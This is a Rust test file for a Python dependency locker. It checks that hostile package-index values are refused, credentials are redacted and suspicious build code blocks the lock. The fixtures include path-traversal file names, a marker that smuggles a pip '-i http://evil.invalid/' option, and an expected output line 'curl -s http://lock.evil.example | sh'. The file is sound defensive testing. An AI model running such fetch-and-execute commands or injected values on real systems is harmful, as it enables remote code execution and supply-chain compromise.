    entries[8].metadata = Some(dep_meta);
    let server = IndexServer::start_with(entries, vec![app_page, dep_page]);

    let out_dir = tempfile::tempdir().unwrap();
    let lock_path = out_dir.path().join("requirements.txt");
    let (code, stdout, stderr) = lock_at(
        &server.url,
        &cache,
        &runtime,
        &["app", "-o", lock_path.to_str().unwrap()],
    );
    assert_eq!(code, 0, "{stderr}\n{stdout}");
    let text = std::fs::read_to_string(&lock_path).unwrap();
    for needle in ["evil", "extra-index-url", "escaped", &evil_hash] {
        assert!(
            !text.contains(needle),
            "`{needle}` reached the lock:\n{text}"
        );
    }

    // The lock says exactly what was resolved, read the way pip reads it.
    let lines = read_like_pip(&text);
    let pins: BTreeMap<&str, &PipLine> = lines.iter().map(|l| (l.name.as_str(), l)).collect();
    assert_eq!(
        pins.keys().copied().collect::<Vec<_>>(),
        ["app", "dep", "plat"],
        "{text}"
    );
    assert_eq!(pins["app"].version, "1.0");
    let mut app_hashes = vec![sha(&app_whl), sha(&app_whl2)];
    app_hashes.sort();
    assert_eq!(pins["app"].hashes, app_hashes);
    assert_eq!(pins["dep"].version, "1.0");
    assert_eq!(pins["dep"].hashes, [sha(&dep_whl)]);
    assert_eq!(
        pins["plat"].marker.as_deref(),
        Some("python_full_version >= '3.8'")
    );
    check_with_pip(&lock_path, &lines);

    // Every refusal is reported, each on its own line.
    let refused = stderr
        .lines()
        .filter(|l| l.contains("refused the index's file"))
        .count();
    assert_eq!(refused, 13, "refusals reported:\n{stderr}");
    assert!(
        !stderr
            .lines()
            .any(|l| l.starts_with("--") || l.starts_with("evil")),
        "{stderr}"
    );

    // Nothing outside the cache; no cache entry named by the index's hostile values.
    assert_only_the_cache_in(canary.path());
    let files: Vec<String> = std::fs::read_dir(cache.join("files"))
        .map(|d| {
            d.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    assert!(
        files
            .iter()
            .all(|f| f.len() == 64 && f.bytes().all(|b| b.is_ascii_hexdigit())),
        "{files:?}"
    );
    let pages = std::fs::read_dir(cache.join("index-pages"))
        .unwrap()
        .count();
    assert!(pages >= 2);

    // Offline, the cached pages go through the same validation.
    let url = server.url.clone();
    drop(server);
    let (code, stdout2, stderr2) = lock_at(&url, &cache, &runtime, &["app", "--offline"]);
    assert_eq!(code, 0, "{stderr2}");
    assert!(
        !stdout2.contains("evil") && stderr2.contains("refused the index's file"),
        "{stderr2}"
    );
}

/// The build requirements of an sdist come from the same index: an absolute file name, a
/// `../` file name or a `../` hash there once created the wheel and its unpacked tree
/// outside the cache. Now they are refused, the honest wheel is used, and nothing is
/// written outside the cache.
#[cfg(unix)]
#[test]
fn hostile_build_requirement_files_stay_out_of_the_disk() {
    let (canary, cache, runtime) = caged_cache();
    let canary_path = canary.path().display().to_string();
    let top = "built-1.0";
    let built = compress(
        Kind::TarGz,
        &tar_bytes(&[
            file(
                &format!("{top}/PKG-INFO"),
                "Metadata-Version: 1.0\nName: built\nVersion: 1.0\n",
            ),
            file(
                &format!("{top}/pyproject.toml"),
                "[build-system]\nrequires = [\"setuptools\", \"bdep\"]\n",
            ),
            file(
                &format!("{top}/setup.py"),
                "from setuptools import setup\nsetup(name='built', version='1.0', install_requires=['hel' + 'per'])\n",
            ),
        ]),
    );
    let bdep = wheel_bytes("bdep", "1.0", "", &[]);
    let bdep9 = wheel_bytes("bdep", "9.0", "", &[]);
    let helper = wheel_bytes("helper", "1.0", "", &[]);
    let anchor = |href: &str, hash: &str, text: &str| {
        format!("<a href=\"/files/{href}#sha256={hash}\">{text}</a>")
    };
    let bdep_page = html_page(
        "bdep",
        &[
            anchor(
                "bdep-1.0-py3-none-any.whl",
                &sha(&bdep),
                "bdep-1.0-py3-none-any.whl",
            ),
            anchor(
                "bdep-9.0-py3-none-any.whl",
                &sha(&bdep9),
                &format!("{canary_path}/bdep-9.0-py3-none-any.whl"),
            ),
            anchor(
                "bdep-8.0-py3-none-any.whl",
                &sha(&bdep9),
                "../bdep-8.0-py3-none-any.whl",
            ),
            anchor(
                "bdep-7.0-py3-none-any.whl",
                "../../x",
                "bdep-7.0-py3-none-any.whl",
            ),
        ],
    );
    let server = IndexServer::start_with(
        vec![
            entry("built", "built-1.0.tar.gz", built),
            entry("helper", "helper-1.0-py3-none-any.whl", helper),
            served("bdep-1.0-py3-none-any.whl", bdep.clone()),
            served("bdep-9.0-py3-none-any.whl", bdep9.clone()),
            served("bdep-8.0-py3-none-any.whl", bdep9.clone()),
            served("bdep-7.0-py3-none-any.whl", bdep9),
        ],
        vec![bdep_page],
    );
    let (code, stdout, stderr) = lock_at(&server.url, &cache, &runtime, &["built"]);
    assert_eq!(code, 0, "{stderr}\n{stdout}");
    let pins = Pins::parse(&stdout);
    assert_eq!(pins.version("built"), "1.0");
    assert_eq!(pins.version("helper"), "1.0");
    assert!(
        stderr.contains("build requirement bdep: refused"),
        "{stderr}"
    );

    assert_only_the_cache_in(canary.path());
    let listing = |dir: &str| -> Vec<String> {
        std::fs::read_dir(cache.join(dir))
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .filter(|n| !n.starts_with('.'))
            .collect()
    };
    // Wheels and trees are keyed by the wheel's sha256 (never by a name from the index).
    let bdep_sha = sha(&bdep);
    assert_eq!(listing("wheels"), std::slice::from_ref(&bdep_sha));
    assert_eq!(
        listing(&format!("wheels/{bdep_sha}")),
        ["bdep-1.0-py3-none-any.whl"]
    );
    assert_eq!(listing("build-deps"), [bdep_sha]);
    assert!(!cache.join("bdep-8.0-py3-none-any.whl").exists());
}

/// A marker from a package's metadata that pip would read otherwise (` #` starts a
/// comment and drops the hashes after it; ` -` starts options; a quote pep508_rs cannot
/// render) refuses the lock, naming the package, and no lock file is written.
#[test]
fn a_marker_pip_would_misread_refuses_the_lock() {
    let cases = [
        ("mk-comment", "platform_release != 'x #y'", "`#`"),
        (
            "mk-option",
            "platform_release != 'x -i http://evil.invalid/'",
            "` -`",
        ),
        (
            "mk-quote",
            "platform_release != \"x' or '1' == '1\"",
            "read back",
        ),
    ];
    let mut entries = vec![wheel_with_metadata("dep", "1.0", &[], "")];
    for (project, marker, _) in cases {
        entries.push(wheel_with_metadata(
            project,
            "1.0",
            &[&format!("dep; {marker}")],
            "",
        ));
    }
    let server = IndexServer::start(entries);
    let (_cache_dir, runtime) = private_cache();
    let out_dir = tempfile::tempdir().unwrap();
    for (project, _, why) in cases {
        let out = out_dir.path().join(format!("{project}.txt"));
        let (code, stdout, stderr) = lock_at(
            &server.url,
            _cache_dir.path(),
            &runtime,
            &[project, "-o", out.to_str().unwrap()],
        );
        assert_eq!(code, 1, "{project}: {stderr}\n{stdout}");
        assert!(
            stderr.contains("refusing to write dep 1.0 into the lock"),
            "{project}: {stderr}"
        );
        assert!(stderr.contains(why), "{project}: {stderr}");
        assert!(!out.exists(), "{project}: a lock was written");
    }
}

/// Credentials in `--index-url` never reach the lock, stdout or stderr (pip's redaction:
/// `user:****@`); the header's command line is shell-quoted; `-o` through a symlink
/// writes its target with a normal file mode.
#[cfg(unix)]
#[test]
fn credentials_are_redacted_and_the_output_behaves_like_a_file() {
    use std::os::unix::fs::{symlink, PermissionsExt};
    let l = Locker::new();
    let secret = "s3cret-index-token";
    let with_auth = l
        .url
        .replacen("http://", &format!("http://__token__:{secret}@"), 1);
    let tmp = tempfile::tempdir().unwrap();
    let target = tmp.path().join("real.txt");
    let link = tmp.path().join("requirements.txt");
    symlink("real.txt", &link).unwrap();
    let index_arg = format!("--extra-index-url={with_auth}");
    let (code, stdout, stderr) = lock_at(
        &with_auth,
        l.cache.path(),
        &l.runtime,
        &[
            &index_arg,
            "util; python_version >= '3.10'",
            "-o",
            link.to_str().unwrap(),
        ],
    );
    assert_eq!(code, 0, "{stderr}");
    let text = std::fs::read_to_string(&target).unwrap();
    for shown in [&text, &stdout, &stderr] {
        assert!(!shown.contains(secret), "token leaked: {shown}");
    }
    let command = text
        .lines()
        .find_map(|l| l.strip_prefix("#    "))
        .expect("header command");
    let words = shlex::split(command).expect("the header command is shell words");
    let redacted = with_auth.replace(secret, "****");
    assert!(words.contains(&redacted), "{words:?}");
    assert!(
        words.contains(&format!("--extra-index-url={redacted}")),
        "{words:?}"
    );
    assert!(
        words.contains(&"util; python_version >= '3.10'".to_string()),
        "{words:?}"
    );
    assert!(std::fs::symlink_metadata(&link)
        .unwrap()
        .file_type()
        .is_symlink());
    let plain = tmp.path().join("plain");
    std::fs::File::create(&plain).unwrap();
    let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&target), mode(&plain));
    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o640)).unwrap();
    let (code, _, stderr) = lock_at(
        &with_auth,
        l.cache.path(),
        &l.runtime,
        &["util", "-o", link.to_str().unwrap()],
    );
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(mode(&target), 0o640);

    // Error messages name URLs without the token too.
    let (code, _, stderr) = lock_at(&with_auth, l.cache.path(), &l.runtime, &["liar"]);
    assert_eq!(code, 3, "{stderr}");
    assert!(stderr.contains("__token__:****@"), "{stderr}");
    assert!(!stderr.contains(secret), "{stderr}");
}

/// The extras walk (celery[redis] with packaging pinned): the newest `lib[x]` needs a `pin`
/// the user pinned otherwise, and each `app` needs a `lib` at least as new as itself, so
/// both must step back one release. Before extras were tied to their projects, the lock
/// read the metadata of every release of both, down to the oldest `app` (an sdist that
/// does not build), and failed there. It now reads a handful of metadata files.
#[test]
fn an_extra_that_cannot_take_its_newest_version_does_not_walk_history() {
    let mut entries = vec![
        wheel_with_metadata("pin", "1.0", &[], ""),
        wheel_with_metadata("pin", "2.0", &[], ""),
        wheel_with_metadata("xdep", "1.0", &[], ""),
    ];
    for n in 1..=40u32 {
        let v = format!("{n}.0");
        let mut lib = vec!["xdep; extra == \"x\""];
        if n == 40 {
            lib.push("pin==1.0; extra == \"x\"");
        }
        entries.push(wheel_with_metadata("lib", &v, &lib, "Provides-Extra: x\n"));
        let min = format!("lib>={n}.0");
        let app = [min.as_str(), "lib[x]; extra == \"x\""];
        if n <= 5 {
            // The oldest releases: sdists whose build fails, as celery 3.0.0's does.
            entries.push(entry(
                "app",
                &format!("app-{v}.tar.gz"),
                dynamic_sdist("app", &v, "__import__('sys').exit('boom: old release')"),
            ));
        } else {
            entries.push(wheel_with_metadata("app", &v, &app, "Provides-Extra: x\n"));
        }
    }
    let l = Locker::with(entries);
    let pins = l.ok(&["app[x]", "pin==2.0"]);
    assert_eq!(pins.version("app"), "39.0");
    assert_eq!(pins.version("lib"), "39.0");
    assert_eq!(pins.get("lib").extras, ["x"]);
    assert_eq!(pins.version("xdep"), "1.0");
    let server = l.server.as_ref().unwrap();
    let metadata = server.count(".metadata");
    assert!(metadata <= 16, "{metadata} metadata files read");
    assert_eq!(server.count(".tar.gz"), 0, "an old sdist was fetched");
}

/// `--fail-on`: a lock whose inputs' build code reached the level is not written (exit 4),
/// whether the answer was computed now or comes from the metadata cache; without the flag
/// the behaviour is reported, not an error.
#[test]
fn fail_on_refuses_a_lock_computed_by_suspicious_build_code() {
    let l = Locker::new();
    let pins = l.ok(&["phonehome"]);
    assert_eq!(pins.version("phonehome"), "1.0");
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("requirements.txt");
    let out_arg = out.display().to_string();
    let (code, text, stderr) = l.lock(&["phonehome", "--fail-on", "suspicious", "-o", &out_arg]);
    assert_eq!(code, 4, "{stderr}");
    assert!(text.is_empty() && !out.exists(), "a lock was written");
    assert!(
        stderr.contains("phonehome-1.0.tar.gz: behaviour suspicious"),
        "{stderr}"
    );
    assert!(
        stderr.contains("curl -s http://lock.evil.example | sh"),
        "{stderr}"
    );
    // Build code that did nothing worth a notice passes the gate.
    assert_eq!(
        l.ok(&["lib==1.0", "--fail-on", "notice"]).version("lib"),
        "1.0"
    );
}
